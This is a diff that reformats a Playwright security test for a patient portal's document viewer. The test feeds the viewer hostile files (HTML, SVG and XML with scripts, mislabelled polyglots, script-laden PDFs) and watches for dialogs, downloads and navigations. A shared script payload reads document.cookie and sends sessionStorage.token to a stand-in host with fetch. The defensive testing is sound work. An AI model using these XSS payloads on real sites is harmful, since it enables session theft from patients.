@@ -3,12 +3,21 @@ import type { BrowserContext, Page } from '@playwright/test'
 import { danger } from '../proof/documents/danger.ts'
 import { expect, test } from './journey.ts'
 
-const bytes = (...parts: (string | Uint8Array)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))
-const script = '<script>alert(document.cookie);fetch("https://elders.example/?"+sessionStorage.token);parent.x=1</script>'
+const bytes = (...parts: (string | Uint8Array)[]) =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))
+const script =
+  '<script>alert(document.cookie);fetch("https://elders.example/?"+sessionStorage.token);parent.x=1</script>'
 const png = bytes('\u0089PNG\r\n\u001a\n')
-const pixel = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
+const pixel = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+  'base64',
+)
 const html = bytes(`<!doctype html><body onload="alert(1)">${script}<iframe src="https://elders.example/"></iframe>`)
-const [links, scripts, attachments] = ['links of every scheme', 'scripts everywhere', 'attachments and pictures from elsewhere'].map((name) => danger[name]?.bytes ?? bytes())
+const [links, scripts, attachments] = [
+  'links of every scheme',
+  'scripts everywhere',
+  'attachments and pictures from elsewhere',
+].map((name) => danger[name]?.bytes ?? bytes())
 
 interface Hostile {
   name: string
@@ -21,18 +30,40 @@ interface Hostile {
 /** What somebody who has the clinic's answers in hand could send. */
 export const corpus: readonly Hostile[] = [
   { name: 'a page', says: 'text/html', data: html, state: 'damaged' },
-  { name: 'a drawing with a script', says: 'image/svg+xml', data: bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`), state: 'damaged' },
-  { name: 'a text that a style sheet turns into a page', says: 'text/xml', data: bytes('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://elders.example/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>'), state: 'damaged' },
+  {
+    name: 'a drawing with a script',
+    says: 'image/svg+xml',
+    data: bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
+    state: 'damaged',
+  },
+  {
+    name: 'a text that a style sheet turns into a page',
+    says: 'text/xml',
+    data: bytes(
+      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://elders.example/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
+    ),
+    state: 'damaged',
+  },
   { name: 'a page that says it is a PDF', says: 'application/pdf', data: html, state: 'damaged' },
   { name: 'a page that says it is a picture', says: 'image/png', data: html, state: 'damaged' },
   { name: 'a script', says: 'text/javascript', data: bytes('alert(1)'), state: 'damaged' },
   { name: 'a picture with a page behind it', says: 'text/html', data: bytes(pixel, html), state: 'picture' },
   { name: 'a broken picture with a page behind it', says: 'text/html', data: bytes(png, html), state: 'damaged' },
-  { name: 'a page with a PDF behind it', says: 'text/html', data: bytes('<!doctype html>', script, '%PDF-1.7'), state: 'damaged' },
+  {
+    name: 'a page with a PDF behind it',
+    says: 'text/html',
+    data: bytes('<!doctype html>', script, '%PDF-1.7'),
+    state: 'damaged',
+  },
   { name: 'a PDF with a page behind it', says: 'text/html', data: bytes(links ?? '', html), state: 'shown' },
   { name: 'a PDF with links of every scheme', says: 'application/pdf', data: links ?? bytes(), state: 'shown' },
   { name: 'a PDF with scripts everywhere', says: 'application/pdf', data: scripts ?? bytes(), state: 'shown' },
-  { name: 'a PDF with files inside and pictures from elsewhere', says: 'application/pdf', data: attachments ?? bytes(), state: 'shown' },
+  {
+    name: 'a PDF with files inside and pictures from elsewhere',
+    says: 'application/pdf',
+    data: attachments ?? bytes(),
+    state: 'shown',
+  },
 ]
 
 /** A name that hides what a file is and leads out of its folder, and what it is saved under. Every kind of name is a line of a table beside the rule. */
@@ -47,15 +78,28 @@ function watch(page: Page, context: BrowserContext): string[] {
     void dialog.dismiss()
   })
   page.on('download', (file) => escapes.push(`saved ${file.suggestedFilename()}`))
-  page.on('framenavigated', (frame) => { if (!frame.url().endsWith('/document/1')) escapes.push(`went to ${frame.url()}`) })
+  page.on('framenavigated', (frame) => {
+    if (!frame.url().endsWith('/document/1')) escapes.push(`went to ${frame.url()}`)
+  })
   context.on('page', (other) => escapes.push(`opened ${other.url()}`))
   return escapes
 }
 
 /** Opens each in the portal of who is signed in on the page, and saves one. */
-export async function openHostile({ page, context }: { page: Page; context: BrowserContext }, documents: readonly Hostile[]): Promise<void> {
+export async function openHostile(
+  { page, context }: { page: Page; context: BrowserContext },
+  documents: readonly Hostile[],
+): Promise<void> {
   let answer: Pick<Hostile, 'data' | 'says'> & { description: string }
-  await page.route('**/patientPortal/document/get', (route) => route.fulfill({ json: { documentData: Buffer.from(answer.data).toString('base64'), mimetype: answer.says, description: answer.description } }))
+  await page.route('**/patientPortal/document/get', (route) =>
+    route.fulfill({
+      json: {
+        documentData: Buffer.from(answer.data).toString('base64'),
+        mimetype: answer.says,
+        description: answer.description,
+      },
+    }),
+  )
   const open = async (given: typeof answer) => {
     answer = given
     await page.goto('/document/1')
